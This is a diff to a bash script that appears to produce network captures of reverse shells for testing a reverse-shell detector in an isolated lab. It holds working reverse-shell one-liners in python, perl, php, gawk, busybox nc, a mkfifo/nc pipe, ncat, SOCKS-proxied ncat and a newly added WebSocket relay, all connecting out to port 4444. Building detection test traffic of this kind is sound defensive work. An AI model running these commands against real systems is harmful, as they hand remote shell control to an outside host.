@@ -1,7 +1,7 @@
 #!/usr/bin/env bash
 # Captures of shells that connect out.  Usage: [OUTPUT-DIR [SCENARIO...]]
 . "$(dirname "$0")/shells.sh"
-DETECTOR=reverse-shell
+DETECTOR=reverse-shell WEBSOCAT=${WEBSOCAT:-websocat}
 LINES_=(typed 0.7 "${COMMANDS[@]}")
 KEYS=(keyed 'uname -s' 'exit')
 CALLS="import socket,os; s=socket.create_connection(('$OUT',4444)); [os.dup2(s.fileno(),n) for n in (0,1,2)]"
@@ -17,7 +17,10 @@ hit_perl() { reverse "${LINES_[@]}" -- perl -e "use Socket;socket(S,PF_INET,SOCK
 hit_php() { reverse "${LINES_[@]}" -- php -r "\$s=fsockopen('$OUT',4444);proc_open('/bin/sh -i',[\$s,\$s,\$s],\$p);sleep(6);"; }
 hit_awk() { reverse "${LINES_[@]}" -- gawk "BEGIN{s=\"/inet/tcp/0/$OUT/4444\";for(;;){printf \"shell>\"|&s;if((s|&getline c)<=0)break;if(c==\"exit\")break;while((c|&getline)>0)print|&s;close(c)}}"; has_text 'shell>'; }
 hit_busybox_nc() { reverse "${LINES_[@]}" -- busybox nc $OUT 4444 -e /bin/sh; has_text 'uid=0'; }
-hit_mkfifo() { reverse "${LINES_[@]}" -- sh -c "rm -f /tmp/$P.f; mkfifo /tmp/$P.f; sh -i </tmp/$P.f 2>&1 | nc.openbsd -q 1 $OUT 4444 >/tmp/$P.f; rm -f /tmp/$P.f"; }
+hit_mkfifo() {
+    local pipe; pipe=$(mktemp -u)
+    reverse "${LINES_[@]}" -- sh -c "mkfifo $pipe; sh -i <$pipe 2>&1 | nc.openbsd -q 1 $OUT 4444 >$pipe; rm -f $pipe"
+}
 hit_whoami_only() { reverse typed 0.7 whoami -- ncat $OUT 4444 -e /bin/sh; has_text 'root'; }
 
 hit_output_only() { # what a one-liner printed, and nobody asks anything
@@ -37,6 +40,11 @@ hit_socat_relay() { # rly passes it on: both legs are shells, and rly is a relay
 hit_socks() { # a shell inside a SOCKS session
     net_up; operator out 4444 "${LINES_[@]}"; microsocks_up
     record in cli rly out; victim cli ncat --proxy $RLY:1080 --proxy-type socks5 $OUT 4444 -e '/bin/sh -i'; save
+}
+hit_websocket() { # the side that opened the WebSocket is the one with the shell
+    net_up; victim cli socat TCP-LISTEN:4000,bind=127.0.0.1 EXEC:'bash --norc -i',pty,stderr,setsid,sane & PIDS+=($!); up cli 4000
+    (cd / && typed 0.7 "${COMMANDS[@]}" | timeout 30 ip netns exec "$P-out" "$WEBSOCAT" -E -b ws-l:0.0.0.0:4444 - >/dev/null 2>&1) & PIDS+=($!); up out 4444
+    record in cli out; on cli timeout 20 "$WEBSOCAT" -E -b ws://$OUT:4444/ tcp:127.0.0.1:4000 || true; save
 }
 hit_stage() { # a program's length, then a library that loads itself; nothing of it but the header is real
     net_up; operator out 4444 /usr/bin/python3 -c \
